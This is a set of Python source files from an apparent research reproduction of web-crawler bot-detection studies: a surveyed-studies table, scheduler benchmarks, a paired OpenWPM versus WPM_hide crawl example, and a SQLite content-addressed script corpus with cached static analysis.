    _s(2015, "[49]", "NDSS", "Kranch", "u", vm=True, c=True, h="oob"),
    _s(2015, "[7]", "Tech Science", "Altaweel", "h", c=True, h=True,
       click=True, sub=True),
    _s(2015, "[34]", "W2SP", "Fruchter", "u", c=True, h=True),
    _s(2016, "[8]", "IFIP AICT", "Andersdotter", "u", h=True),
    _s(2016, "[29]", "CCS", "Englehardt", "x", vm=True, c=True, h=True,
       j=True, sub=True),
    _s(2016, "[84]", "WWW", "Starov", "u", h=True),
    _s(2017, "[61]", "NDSS", "Miramirkhani", "u", vm=True, c=True,
       h="oob", j=True),
    _s(2017, "[13]", "PETS", "Brookman", "u", c=True, h=True, click=True),
    _s(2017, "[66]", "CODASPY", "Reed", "u", h=True, other=True),
    _s(2017, "[64]", "IWPE", "Olejnik", "u", c=True, h=True, j=True),
    _s(2017, "[57]", "APF", "Maass", "u", h=True),
    _s(2017, "[55]", "USENIX", "Liu", "h", other=True),
    _s(2017, "[74]", "Appl. Econ. Letters", "Schmeiser", "u", h=True),
    _s(2018, "[35]", "PETS", "Goldfeder", "u", h=True, click=True,
       sub=True, bd=True),
    _s(2018, "[28]", "PETS", "Englehardt", "u", h=True, c=True,
       sub=True),
    _s(2018, "[10]", "ACM ToIT", "Binns", "h", c=True, h=True),
    _s(2018, "[25]", "CCS", "Das", "u", h=True, j=True, bd=True),
    _s(2018, "[91]", "ACSAC", "Van Acker", "u", h=True),
    _s(2018, "[23]", "AINTEC", "Dao", "u", h=True),
    _s(2019, "[20]", "IRCDL", "Cozza", "u", other=True, scroll=True,
       click=True, type_=True, sub=True),
    _s(2019, "[36]", "WorldCIST", "Gomes", "u", h=True),
    _s(2019, "[92]", "ConPro", "van Eijk", "d", c=True),
    _s(2019, "[83]", "WWW", "Sørensen", "u", vm=True, c=True, h=True, sub=True),
    _s(2019, "[54]", "EuroS&P", "Liu", "u", h=True, bd=True),
    _s(2019, "[58]", "CSCW", "Mathur", "u", c=True, h=True, click=True, sub=True),
    _s(2019, "[59]", "Comput. Comm.", "Mazel", "u", h=True),
    _s(2019, "[6]", "DPM", "Ali", "u", c=True),
    _s(2019, "[73]", "Comp. Secur.", "Samarasinghe", "u", h=True, bd=True),
    _s(2019, "[56]", "APF", "Maass", "u", h=True),
    _s(2019, "[81]", "RAID", "Solomos", "u", other=True, scroll=True,
       click=True),
    _s(2019, "[45]", "ESORICS", "Jonker", "h", c=True, h=True, j="oob",
       bd=True),
    _s(2019, "[88]", "DPM", "Urban", "u", c=True, h=True, sub=True),
    _s(2019, "[71]", "SPW", "Sakamoto", "u", c=True, h=True),
    _s(2020, "[31]", "PETS", "Fouad", "u", c=True, h=True, sub=True),
    _s(2020, "[19]", "PETS", "Cook", "u", other=True, scroll=True,
       anti=True, bd=True),
    _s(2020, "[99]", "PETS", "Yang", "u", c=True, h=True, j=True,
       scroll=True, sub=True),
    _s(2020, "[1]", "PETS", "Acar", "u", vm=True, h=True, j=True,
       sub=True, anti=True, bd=True),
    _s(2020, "[48]", "PETS", "Koop", "d", c=True, h=True, j=True,
       click=True, anti=True),
    _s(2020, "[101]", "WWW", "Zeber", "n/x", vm=True, c=True, h=True,
       j=True, anti=True, bd=True),
    _s(2020, "[4]", "WWW", "Agarwal", "h", vm=True, c=True, h=True,
       j=True),
    _s(2020, "[87]", "WWW", "Urban", "u", vm=True, c=True, h=True, j=True,
       scroll=True, sub=True, anti=True, bd=True),
    _s(2020, "[89]", "AsiaCCS", "Urban", "u", c=True, h=True, scroll=True),
    _s(2020, "[65]", "PAM", "Pouryousef", "u", h=True),
    _s(2020, "[32]", "EuroS&P", "Fouad", "u", c=True),
    _s(2020, "[79]", "PrivacyCon", "Sivan-Sevilla", "u", vm=True, h=True,
       j=True, anti=True, bd=True),
    _s(2020, "[41]", "EuroS&P", "Hu", "u", h=True, click=True),
    _s(2020, "[21]", "TMA", "Dao", "u", h=True),
    _s(2020, "[82]", "TMA", "Solomos", "u", c=True),
    _s(2020, "[22]", "GLOBECOM", "Dao", "u", h=True),
    _s(2021, "[14]", "NDSS", "Calzavara", "u", c=True, h=True, bd=True),
    _s(2021, "[68]", "PETS", "Rizzo", "u", vm=True, h=True),
    _s(2021, "[43]", "S&P", "Iqbal", "u", vm=True, h=True, j=True,
       sub=True),
    _s(2021, "[37]", "IMC", "Goßen", "n", h=True, scroll=True, click=True,
       type_=True, bd=True),
    _s(2021, "[85]", "PETS", "Di Tizio", "u", h=True),
    _s(2021, "[40]", "PETS", "Hosseini", "u", h=True, type_=True),
    _s(2021, "[95]", "WebSci", "Vekaria", "u", c=True, h=True, j=True,
       sub=True),
    _s(2021, "[24]", "IEEE TNSM", "Dao", "u", h=True),
    _s(2021, "[67]", "PETS", "Reitinger", "u", j=True),
    _s(2021, "[63]", "USENIX", "Musch", "u", j=True, bd=True),
    _s(2022, "[15]", "PETS", "Cassel", "u", c=True, h="oob", j="oob",
       bd=True),
    _s(2022, "[77]", "USENIX", "Siby", "u", h=True, j=True),
    _s(2022, "[44]", "USENIX", "Iqbal", "u", c=True, h=True, j=True,
       click=True, scroll=True, sub=True, bd=True),
    _s(2022, "[33]", "PETS", "Fouad", "u", c=True, h=True, j=True),
    _s(2022, "[26]", "WWW", "Demir", "n/h", vm=True, h=True, type_=True,
       sub=True, bd=True),
    _s(2022, "[100]", "EuroS&PW", "Yu", "h", c=True, j=True),
    _s(2022, "[62]", "PETS", "Musa", "u", h=True, anti=True, bd=True),
    _s(2022, "[72]", "WWW", "Samarasinghe", "u", vm=True, c=True, h=True,
       j=True),
    _s(2022, "[12]", "USENIX", "Bollinger", "u", c=True, h=True,
       sub=True),
    _s(2022, "[16]", "WWW", "Chen", "u", c=True, h=True, j=True,
       sub=True),
    _s(2022, "[30b]", "PoPETs", "Fouad", "u", c=True, h=True, sub=True),
]


def summarise_studies(studies: List[Study] = None) -> Dict[str, Dict]:
    """Aggregate the survey into the structure of Table 1."""
    studies = studies if studies is not None else STUDIES

    def count(predicate) -> int:
        return sum(1 for study in studies if predicate(study))

    mode_counts: Dict[str, int] = {}
    for study in studies:
        for mode in study.modes:
            mode_counts[mode] = mode_counts.get(mode, 0) + 1

    return {
        "total": len(studies),
        "measures": {
            "http": count(lambda s: s.http is True),
            "cookies": count(lambda s: s.cookies is True),
            "javascript": count(lambda s: s.javascript is True),
            "other": count(lambda s: s.other_measure),
        },
        "interaction": {
            "none": count(lambda s: not (s.scrolling or s.clicking
                                         or s.typing)),
            "clicking": count(lambda s: s.clicking),
            "scrolling": count(lambda s: s.scrolling),
            "typing": count(lambda s: s.typing),
        },
        "run_mode": {
            "unspecified": mode_counts.get(MODE_UNSPECIFIED, 0),
            "native": mode_counts.get(MODE_NATIVE, 0),
            "headless": mode_counts.get(MODE_HEADLESS, 0),
            "xvfb": mode_counts.get(MODE_XVFB, 0),
            "docker": mode_counts.get(MODE_DOCKER, 0),
            "vm": count(lambda s: s.vm),
        },
        "subpages": {
            "visited": count(lambda s: s.subpages),
            "not_visited": count(lambda s: not s.subpages),
        },
        "bot_detection": {
            "discussed": count(lambda s: s.mentions_bot_detection),
            "ignored": count(lambda s: not s.mentions_bot_detection),
            "uses_mitigation": count(lambda s: s.anti_bot_detection),
        },
    }

"""A small JavaScript engine (lexer, parser, tree-walking interpreter).

The engine executes the JavaScript subset used by the synthetic web's
scripts: bot detectors, trackers, attack payloads, and the instrumentation
injected by OpenWPM. Scripts are real JS source text, so the paper's
*static* analysis (regexes over deobfuscated source) and *dynamic*
analysis (recorded property accesses during execution) both operate on
the same artifacts they would in the field.

Supported language: ``var``/``let``/``const``, functions (declarations,
expressions, arrows), closures, ``this``, ``new``, prototypes, objects,
arrays, ``for``/``for..in``/``while``/``do``, ``if``, ``try/catch/finally``,
``throw``, ``typeof``/``delete``/``instanceof``/``in``, the usual operators,
and string/array/object builtins.
"""

from repro.jsengine.lexer import Lexer, LexError, Token
from repro.jsengine.parser import ParseError, Parser, parse
from repro.jsengine.interpreter import Interpreter, ScriptFunction

__all__ = [
    "Lexer",
    "LexError",
    "Token",
    "Parser",
    "ParseError",
    "parse",
    "Interpreter",
    "ScriptFunction",
]

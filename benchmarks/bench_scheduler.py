"""Crawl scheduler: throughput + overhead of the queue machinery.

Three properties worth guarding:

* routing a crawl through the persistent queue and worker pool must be
  close to free — a 1-worker scheduled crawl does exactly the work of
  the sequential path (byte-identical database) plus queue bookkeeping,
  so the wall-clock gap *is* the scheduler's overhead;
* the multi-worker path must drain the same workload completely. The
  simulated browsers are pure Python, so threads contend on the GIL and
  wall-clock speedups stay modest; the number reported here is the
  queue's coordination cost, not a parallel-browser speedup claim.
* the multi-**process** pool (``--worker-procs``) escapes the GIL:
  each worker owns its own interpreter, so a JS-instrumented crawl —
  dominated by CPU-bound property wrapping and script interpretation —
  should scale with available cores. The speedup floor asserted below
  is therefore core-count aware: on a 4+-core machine 4 processes must
  beat 1 process by >= 2x; on fewer cores the assertion degrades to
  "the supervision/IPC machinery must not make the pool slower".
"""

import gc
import os
import tempfile
import time

from conftest import BENCH_SEED, report

SCHED_SITES = 1000
OVERHEAD_LIMIT_PCT = 25.0
#: JS-heavy synthetic-web crawl used for the process-pool speedup pin.
PROC_SITES = int(os.environ.get("REPRO_BENCH_PROC_SITES", "200"))


def _timed_crawl(mode, site_count):
    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    gc.collect()
    start = time.perf_counter()
    result = run_telemetry_crawl(
        site_count=site_count, seed=BENCH_SEED, crash_probability=0.05,
        browsers=4, telemetry=Telemetry.disabled(),
        workers=None if mode == "sequential" else mode)
    elapsed = time.perf_counter() - start
    if mode != "sequential":
        assert result.report.drained, result.report
    visits = result.storage.query(
        "SELECT COUNT(*) AS n FROM site_visits")[0]["n"]
    result.close()
    return elapsed, visits


def measure_scheduler_throughput(site_count=SCHED_SITES, rounds=3):
    modes = ("sequential", 1, 4)
    best = {mode: float("inf") for mode in modes}
    visits = {}
    for mode in modes:  # warm-up, discarded
        _timed_crawl(mode, site_count)
    for _ in range(rounds):
        for mode in modes:
            elapsed, seen = _timed_crawl(mode, site_count)
            best[mode] = min(best[mode], elapsed)
            visits[mode] = seen
    overhead = (best[1] - best["sequential"]) / best["sequential"] * 100.0
    return {"sites": site_count, "best": best, "visits": visits,
            "overhead_pct": overhead}


def test_benchmark_scheduler_throughput(benchmark):
    result = benchmark.pedantic(
        lambda: measure_scheduler_throughput(rounds=3),
        rounds=1, iterations=1)

    best, sites = result["best"], result["sites"]
    lines = [
        f"({sites}-site lab crawl, crash injection 5%, best of 3;",
        " workers are threads over simulated browsers, so this measures",
        " queue coordination cost, not parallel-browser speedup.",
        " The sequential path retains every VisitResult for its caller",
        " while scheduled workers discard them, so negative overhead",
        " means queue bookkeeping costs less than that retention.)",
        "",
        "| mode | seconds | sites/s |",
        "|---|---|---|",
    ]
    for mode in ("sequential", 1, 4):
        label = "sequential (no queue)" if mode == "sequential" \
            else f"scheduled, {mode} worker(s)"
        lines.append(f"| {label} | {best[mode]:.3f} "
                     f"| {sites / best[mode]:.0f} |")
    lines.append(f"| queue overhead (1 worker vs sequential) "
                 f"| {result['overhead_pct']:+.2f}% | |")
    report("crawl_scheduler", "Crawl scheduler - throughput", lines)

    assert all(count >= sites for count in result["visits"].values()), \
        result["visits"]
    assert result["overhead_pct"] < OVERHEAD_LIMIT_PCT, result


# ---------------------------------------------------------------------------
# Multi-process pool: real parallelism on a JS-heavy crawl
# ---------------------------------------------------------------------------
def _timed_proc_crawl(procs, site_count, tmp_dir, tag):
    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    gc.collect()
    start = time.perf_counter()
    result = run_telemetry_crawl(
        site_count=site_count, seed=BENCH_SEED, crash_probability=0.0,
        browsers=1, web="tranco", js_instrument=True,
        telemetry=Telemetry.disabled(), worker_procs=procs,
        queue_path=os.path.join(tmp_dir, f"p{procs}-r{tag}.queue"))
    elapsed = time.perf_counter() - start
    assert result.report.drained, result.report
    visits = result.storage.query(
        "SELECT COUNT(*) AS n FROM site_visits")[0]["n"]
    result.close()
    return elapsed, visits


def measure_process_pool_speedup(site_count=PROC_SITES, rounds=2):
    """Wall-clock of the same JS-instrumented synthetic-web crawl at 1
    and 4 worker processes (best of *rounds*, interleaved)."""
    best = {1: float("inf"), 4: float("inf")}
    with tempfile.TemporaryDirectory() as tmp_dir:
        for round_index in range(rounds):
            for procs in (1, 4):
                elapsed, visits = _timed_proc_crawl(
                    procs, site_count, tmp_dir, round_index)
                assert visits == site_count, (procs, visits)
                best[procs] = min(best[procs], elapsed)
    return {"sites": site_count, "best": best,
            "speedup": best[1] / best[4],
            "cores": os.cpu_count() or 1}


def proc_speedup_floor(cores):
    """The honest expectation for this machine: parallel speedup needs
    parallel hardware. 4 workers on a single core can only pay the
    supervision + IPC tax, so there the floor just bounds that tax."""
    if cores >= 4:
        return 2.0
    if cores >= 2:
        return 1.4
    return 0.70


def test_benchmark_process_pool_speedup(benchmark):
    result = benchmark.pedantic(
        lambda: measure_process_pool_speedup(rounds=2),
        rounds=1, iterations=1)

    best, sites, cores = result["best"], result["sites"], result["cores"]
    floor = proc_speedup_floor(cores)
    lines = [
        f"({sites}-site synthetic-web crawl, JS instrument on, best of",
        " 2; worker processes escape the GIL, so on parallel hardware",
        " this is a real wall-clock speedup, not queue bookkeeping.",
        f" This run saw {cores} CPU core(s); the asserted floor scales",
        " with the cores available: >= 2.0x with 4+ cores, >= 1.4x",
        " with 2-3, and on a single core the 4-process pool must",
        " merely stay within 1/0.70x of the 1-process time.)",
        "",
        "| mode | seconds | sites/s |",
        "|---|---|---|",
    ]
    for procs in (1, 4):
        lines.append(f"| {procs} worker process(es) | {best[procs]:.3f} "
                     f"| {sites / best[procs]:.0f} |")
    lines.append(f"| speedup (1 proc / 4 procs) "
                 f"| {result['speedup']:.2f}x "
                 f"| floor {floor:.2f}x @ {cores} core(s) |")
    report("crawl_scheduler_procs",
           "Crawl scheduler - process-pool speedup", lines)

    assert result["speedup"] >= floor, result

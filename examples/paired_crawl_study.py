#!/usr/bin/env python3
"""The paper's headline experiment: WPM vs WPM_hide (Sec. 6.3).

Two clients with separate network identities crawl the same detector
sites for three repetitions; server-side re-identification persists
between repetitions. Prints Tables 8-10 and Fig. 6.

    python examples/paired_crawl_study.py [--sites 400]
"""

import argparse

from repro.core.comparison import PairedCrawl
from repro.web import build_world


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--sites", type=int, default=400,
                        help="size of the synthetic web to build")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()

    web = build_world(site_count=args.sites, seed=args.seed)
    detector_sites = sorted(web.ground_truth.detector_sites())
    print(f"Synthetic web: {args.sites} sites, "
          f"{len(detector_sites)} with detectors.")
    print("Running 3 synchronised repetitions for both clients...")
    result = PairedCrawl(web, sites=detector_sites, repetitions=3).run()

    print("\n== Table 8: HTTP requests by resource type (r1) ==")
    for row in result.table8(0):
        if row["wpm"] or row["wpm_hide"]:
            print(f"  {row['resource_type']:<16} WPM {row['wpm']:>6} "
                  f"WPM_hide {row['wpm_hide']:>6}  "
                  f"{row['diff_pct']:+6.1f}%")
    print(f"  CSP-report reduction: "
          f"{result.csp_report_reduction(0):+.1f}% (paper: -76%)")

    print("\n== Table 9: ad/tracker requests (EasyList/EasyPrivacy) ==")
    for row in result.table9():
        print(f"  r{row['run']}: EasyList "
              f"{row['easylist_diff_pct']:+6.1f}%   EasyPrivacy "
              f"{row['easyprivacy_diff_pct']:+6.1f}%")

    print("\n== Table 10: cookies ==")
    for row in result.table10():
        print(f"  r{row['run']}: first-party "
              f"{row['first_party_diff_pct']:+6.1f}%  third-party "
              f"{row['third_party_diff_pct']:+6.1f}%  tracking "
              f"{row['tracking_diff_pct']:+6.1f}% "
              f"(WPM {row['wpm_tracking']}, "
              f"WPM_hide {row['hide_tracking']})")
    significance = result.cookie_significance(0)
    print(f"  Wilcoxon per-site cookies: p = {significance.p_value:.2e} "
          f"(significant: {significance.significant})")

    print("\n== Fig 6: JS call coverage of WPM vs WPM_hide ==")
    for row in result.fig6(0)[:10]:
        bar = "#" * int(row["coverage"] * 30)
        print(f"  {row['symbol']:<26} {row['coverage']:5.0%} {bar}")


if __name__ == "__main__":
    main()

"""SQLite-backed content-addressed script store + analysis memo.

Design (following Web Execution Bundles' content-addressed archival):

* ``scripts`` holds each unique body once, keyed by sha256 of the
  source, zlib-compressed, with a refcount equal to the number of live
  occurrence rows referencing it;
* ``occurrences`` is the per-site / per-visit / per-script-url index —
  the record of *where* each unique script was seen, and the thing the
  dedup ratio is measured against;
* ``analysis_cache`` memoizes the static-analysis verdict per
  ``(script_hash, pattern_set_version, preprocess)`` so each unique
  script is deobfuscated and pattern-matched exactly once per
  pattern-set revision (set ``REPRO_CORPUS_CACHE=off`` to bypass — the
  golden regression test proves the cache is semantics-free).

Writes follow the scheduler's storage-lease discipline: a worker's
attempt *stages* its occurrence rows under an attempt token; the rows
are promoted to live only when the queue accepts the completion, and a
verdict voided by a lost lease drops its staged rows — retracting the
refcounts that attempt would have contributed. Script *bodies* are
written at stage time, unconditionally: a job marked completed must
always be resolvable to sources on resume, even if the process dies
between queue completion and promotion. Unreferenced bodies are
reclaimed by :meth:`ScriptCorpus.vacuum`, never implicitly.
"""

from __future__ import annotations

import hashlib
import os
import sqlite3
import threading
import zlib
from typing import TYPE_CHECKING, Dict, List, Optional, Tuple

if TYPE_CHECKING:  # imported lazily at runtime; see scan()
    from repro.core.scan.static_analysis import PatternHit

_SCHEMA = """
CREATE TABLE IF NOT EXISTS scripts (
    hash TEXT PRIMARY KEY,
    body BLOB NOT NULL,
    raw_bytes INTEGER NOT NULL,
    stored_bytes INTEGER NOT NULL,
    refcount INTEGER NOT NULL DEFAULT 0
);
CREATE TABLE IF NOT EXISTS occurrences (
    site TEXT NOT NULL,
    visit_index INTEGER NOT NULL,
    script_url TEXT NOT NULL,
    hash TEXT NOT NULL,
    PRIMARY KEY (site, visit_index, script_url, hash)
);
CREATE INDEX IF NOT EXISTS occurrences_hash ON occurrences(hash);
CREATE TABLE IF NOT EXISTS staged_occurrences (
    token TEXT NOT NULL,
    site TEXT NOT NULL,
    visit_index INTEGER NOT NULL,
    script_url TEXT NOT NULL,
    hash TEXT NOT NULL,
    PRIMARY KEY (token, visit_index, script_url, hash)
);
CREATE TABLE IF NOT EXISTS analysis_cache (
    hash TEXT NOT NULL,
    pattern_version TEXT NOT NULL,
    preprocess INTEGER NOT NULL,
    matched_json TEXT NOT NULL,
    PRIMARY KEY (hash, pattern_version, preprocess)
);
CREATE TABLE IF NOT EXISTS corpus_meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
"""

#: Bump when the on-disk layout changes incompatibly.
CORPUS_FORMAT = "1"

#: zlib default when ``REPRO_CORPUS_ZLEVEL`` is unset. Level 6 is
#: zlib's own default — a good size/speed balance. Lower levels trade
#: corpus size for recording throughput (0 stores ~3-4x bigger but
#: compresses ~10x faster on script-sized bodies); 9 shaves a few
#: percent off disk at a real CPU cost. See docs/bundles in README.
DEFAULT_ZLEVEL = 6


def zlevel_from_env() -> int:
    """Compression level from ``REPRO_CORPUS_ZLEVEL`` (0-9)."""
    raw = os.environ.get("REPRO_CORPUS_ZLEVEL")
    if raw is None:
        return DEFAULT_ZLEVEL
    try:
        level = int(raw)
    except ValueError:
        raise ValueError(
            f"REPRO_CORPUS_ZLEVEL must be an integer 0-9, "
            f"got {raw!r}") from None
    if not 0 <= level <= 9:
        raise ValueError(
            f"REPRO_CORPUS_ZLEVEL must be in 0-9, got {level}")
    return level


class MissingScriptError(KeyError):
    """A hash referenced by evidence has no body in the corpus."""

    def __init__(self, digest: str) -> None:
        super().__init__(digest)
        self.digest = digest

    def __str__(self) -> str:
        return (f"script {self.digest!r} is not in the corpus — the "
                "evidence references a body that was never stored (or "
                "was vacuumed); re-run the scan without --resume to "
                "rebuild the corpus")


def script_hash(source: str) -> str:
    """The content address of one script body."""
    return hashlib.sha256(source.encode("utf-8", "surrogatepass")) \
        .hexdigest()


def corpus_path_for(queue_path: str) -> str:
    """The corpus sidecar path for a queue file."""
    if queue_path == ":memory:":
        return ":memory:"
    return queue_path + ".corpus"


def cache_enabled_from_env() -> bool:
    return os.environ.get("REPRO_CORPUS_CACHE", "on").lower() != "off"


class SiteBatch:
    """One attempt's staged corpus writes for one site.

    Script additions accumulate in memory and are flushed in a single
    transaction per visit (:meth:`flush_visit`); :meth:`commit` flushes
    any remainder. The batch's rows stay *staged* until the corpus
    promotes them on an accepted queue completion.
    """

    def __init__(self, corpus: "ScriptCorpus", site: str,
                 token: str) -> None:
        self.corpus = corpus
        self.site = site
        self.token = token
        self._visit_index = 0
        self._pending: List[Tuple[int, str, str, str]] = []
        self._pending_bodies: Dict[str, str] = {}
        self._seen: set = set()

    def add(self, script_url: str, source: str) -> str:
        """Record one collected script for the current visit."""
        digest = script_hash(source)
        key = (self._visit_index, script_url, digest)
        if key not in self._seen:
            self._seen.add(key)
            self._pending.append(
                (self._visit_index, script_url, digest, self.token))
            if not self.corpus.has(digest):
                self._pending_bodies.setdefault(digest, source)
        return digest

    def flush_visit(self) -> None:
        """Write the current visit's rows and move to the next visit."""
        self.corpus._stage(self.site, self._pending,
                           self._pending_bodies)
        self._pending = []
        self._pending_bodies = {}
        self._visit_index += 1

    def commit(self) -> None:
        """Flush anything still pending (idempotent)."""
        if self._pending or self._pending_bodies:
            self.corpus._stage(self.site, self._pending,
                               self._pending_bodies)
            self._pending = []
            self._pending_bodies = {}


class ScriptCorpus:
    """Content-addressed script store + memoized static analysis."""

    def __init__(self, path: str = ":memory:",
                 cache_enabled: Optional[bool] = None,
                 zlevel: Optional[int] = None) -> None:
        self.path = path
        self.cache_enabled = cache_enabled_from_env() \
            if cache_enabled is None else cache_enabled
        self.zlevel = zlevel_from_env() if zlevel is None else zlevel
        if not 0 <= self.zlevel <= 9:
            raise ValueError(f"zlevel must be in 0-9, got {self.zlevel}")
        self._lock = threading.RLock()
        self._conn = sqlite3.connect(path, check_same_thread=False)
        self._conn.row_factory = sqlite3.Row
        self._memo: Dict[Tuple[str, bool], List[str]] = {}
        self.cache_hits = 0
        self.cache_misses = 0
        self._token_seq = 0
        with self._lock:
            self._conn.executescript(_SCHEMA)
            self._conn.execute(
                "INSERT OR REPLACE INTO corpus_meta (key, value) "
                "VALUES ('format', ?)", (CORPUS_FORMAT,))
            self._conn.commit()

    # -- bodies --------------------------------------------------------
    def put(self, source: str) -> str:
        """Store one body directly (no occurrence; test convenience)."""
        digest = script_hash(source)
        with self._lock:
            self._insert_body(digest, source)
            self._conn.commit()
        return digest

    def put_many(self, sources: Dict[str, str]) -> None:
        """Store many bodies keyed by their (precomputed) digests in
        one transaction (the bundle writer's per-site commit)."""
        if not sources:
            return
        with self._lock:
            for digest, source in sources.items():
                self._insert_body(digest, source)
            self._conn.commit()

    def _insert_body(self, digest: str, source: str) -> None:
        raw = source.encode("utf-8", "surrogatepass")
        body = zlib.compress(raw, self.zlevel)
        self._conn.execute(
            "INSERT OR IGNORE INTO scripts "
            "(hash, body, raw_bytes, stored_bytes, refcount) "
            "VALUES (?, ?, ?, ?, 0)",
            (digest, body, len(raw), len(body)))

    def has(self, digest: str) -> bool:
        with self._lock:
            row = self._conn.execute(
                "SELECT 1 FROM scripts WHERE hash = ?",
                (digest,)).fetchone()
        return row is not None

    def source(self, digest: str) -> str:
        with self._lock:
            row = self._conn.execute(
                "SELECT body FROM scripts WHERE hash = ?",
                (digest,)).fetchone()
        if row is None:
            raise MissingScriptError(digest)
        return zlib.decompress(row["body"]).decode("utf-8",
                                                   "surrogatepass")

    def sources(self) -> Dict[str, str]:
        """hash -> source for every stored body (sorted by hash)."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT hash, body FROM scripts ORDER BY hash").fetchall()
        return {row["hash"]: zlib.decompress(row["body"]).decode(
            "utf-8", "surrogatepass") for row in rows}

    # -- memoized static analysis --------------------------------------
    def scan(self, digest: str, script_url: str = "",
             preprocess: bool = True) -> PatternHit:
        """Static-analyse one stored script, memoized per pattern set.

        Equivalent to ``scan_script(source, script_url, preprocess)``
        by construction: on a miss the verdict *is* a direct
        ``scan_script`` call, and only the matched-pattern list is
        cached. Raises :class:`MissingScriptError` for unknown hashes
        rather than classifying on an empty source.
        """
        # Deferred import: repro.core.scan.pipeline imports this
        # package, so a module-level import here would be circular
        # whenever repro.corpus is imported first (e.g. by the CLI's
        # ``stats --corpus`` path).
        from repro.core.scan.static_analysis import (
            PATTERN_SET_VERSION,
            PatternHit,
            scan_script,
        )

        if not self.cache_enabled:
            return scan_script(self.source(digest), script_url,
                               preprocess=preprocess)
        memo_key = (digest, preprocess)
        with self._lock:
            matched = self._memo.get(memo_key)
            if matched is None:
                row = self._conn.execute(
                    "SELECT matched_json FROM analysis_cache WHERE "
                    "hash = ? AND pattern_version = ? AND preprocess = ?",
                    (digest, PATTERN_SET_VERSION,
                     int(preprocess))).fetchone()
                if row is not None:
                    matched = row["matched_json"].split(",") \
                        if row["matched_json"] else []
                    self._memo[memo_key] = matched
            if matched is not None:
                self.cache_hits += 1
                return PatternHit(script_url=script_url,
                                  matched=list(matched))
            self.cache_misses += 1
            hit = scan_script(self.source(digest), script_url,
                              preprocess=preprocess)
            self._memo[memo_key] = list(hit.matched)
            self._conn.execute(
                "INSERT OR REPLACE INTO analysis_cache "
                "(hash, pattern_version, preprocess, matched_json) "
                "VALUES (?, ?, ?, ?)",
                (digest, PATTERN_SET_VERSION, int(preprocess),
                 ",".join(hit.matched)))
            self._conn.commit()
            return hit

    # -- staged writes (storage-lease discipline) ----------------------
    def site_batch(self, site: str) -> SiteBatch:
        with self._lock:
            self._token_seq += 1
            token = f"{site}#{self._token_seq}"
        return SiteBatch(self, site, token)

    def _stage(self, site: str,
               rows: List[Tuple[int, str, str, str]],
               bodies: Dict[str, str]) -> None:
        with self._lock:
            for digest, source in bodies.items():
                self._insert_body(digest, source)
            self._conn.executemany(
                "INSERT OR IGNORE INTO staged_occurrences "
                "(token, site, visit_index, script_url, hash) "
                "VALUES (?, ?, ?, ?, ?)",
                [(token, site, visit_index, script_url, digest)
                 for visit_index, script_url, digest, token in rows])
            self._conn.commit()

    def promote(self, site: str, token: str) -> None:
        """Make one accepted attempt's staged rows the site's record.

        Replaces any live rows for the site (a re-run after a voided
        verdict supersedes the old record), keeping refcounts equal to
        live occurrence-row counts throughout.
        """
        with self._lock:
            self._retract_site_locked(site)
            staged = self._conn.execute(
                "SELECT site, visit_index, script_url, hash "
                "FROM staged_occurrences WHERE token = ?",
                (token,)).fetchall()
            self._conn.executemany(
                "INSERT OR IGNORE INTO occurrences "
                "(site, visit_index, script_url, hash) "
                "VALUES (?, ?, ?, ?)",
                [(row["site"], row["visit_index"], row["script_url"],
                  row["hash"]) for row in staged])
            for row in staged:
                self._conn.execute(
                    "UPDATE scripts SET refcount = refcount + 1 "
                    "WHERE hash = ?", (row["hash"],))
            self._conn.execute(
                "DELETE FROM staged_occurrences WHERE token = ?",
                (token,))
            self._conn.commit()

    def recover_site(self, site: str) -> None:
        """Repair a completed site after a crash mid-promotion.

        If the site has live occurrence rows, any leftover staged rows
        for it are stale (a voided sibling attempt) and are dropped;
        if it has none but staged rows exist, the process died between
        queue completion and promotion, and the staged rows (deduped
        across attempts) become the live record.
        """
        with self._lock:
            live = self._conn.execute(
                "SELECT 1 FROM occurrences WHERE site = ? LIMIT 1",
                (site,)).fetchone()
            if live is None:
                staged = self._conn.execute(
                    "SELECT DISTINCT site, visit_index, script_url, hash "
                    "FROM staged_occurrences WHERE site = ?",
                    (site,)).fetchall()
                for row in staged:
                    self._conn.execute(
                        "INSERT OR IGNORE INTO occurrences "
                        "(site, visit_index, script_url, hash) "
                        "VALUES (?, ?, ?, ?)",
                        (row["site"], row["visit_index"],
                         row["script_url"], row["hash"]))
                    self._conn.execute(
                        "UPDATE scripts SET refcount = refcount + 1 "
                        "WHERE hash = ?", (row["hash"],))
            self._conn.execute(
                "DELETE FROM staged_occurrences WHERE site = ?", (site,))
            self._conn.commit()

    def drop_staged(self, token: str) -> None:
        """Retract a voided attempt's staged rows (lost lease)."""
        with self._lock:
            self._conn.execute(
                "DELETE FROM staged_occurrences WHERE token = ?",
                (token,))
            self._conn.commit()

    def retract_site(self, site: str) -> None:
        """Remove a site's live occurrence rows and their refcounts."""
        with self._lock:
            self._retract_site_locked(site)
            self._conn.commit()

    def _retract_site_locked(self, site: str) -> None:
        rows = self._conn.execute(
            "SELECT hash, COUNT(*) AS n FROM occurrences "
            "WHERE site = ? GROUP BY hash", (site,)).fetchall()
        for row in rows:
            self._conn.execute(
                "UPDATE scripts SET refcount = refcount - ? "
                "WHERE hash = ?", (row["n"], row["hash"]))
        self._conn.execute("DELETE FROM occurrences WHERE site = ?",
                           (site,))

    def vacuum(self) -> int:
        """Drop bodies referenced by no live or staged occurrence."""
        with self._lock:
            cursor = self._conn.execute(
                "DELETE FROM scripts WHERE refcount <= 0 "
                "AND hash NOT IN (SELECT hash FROM occurrences) "
                "AND hash NOT IN (SELECT hash FROM staged_occurrences)")
            self._conn.execute(
                "DELETE FROM analysis_cache WHERE hash NOT IN "
                "(SELECT hash FROM scripts)")
            self._conn.commit()
            return cursor.rowcount

    # -- bookkeeping ---------------------------------------------------
    def occurrence_rows(self) -> List[Tuple[str, int, str, str]]:
        """Sorted live index rows, for equality checks across runs."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT site, visit_index, script_url, hash "
                "FROM occurrences "
                "ORDER BY site, visit_index, script_url, hash").fetchall()
        return [(row["site"], row["visit_index"], row["script_url"],
                 row["hash"]) for row in rows]

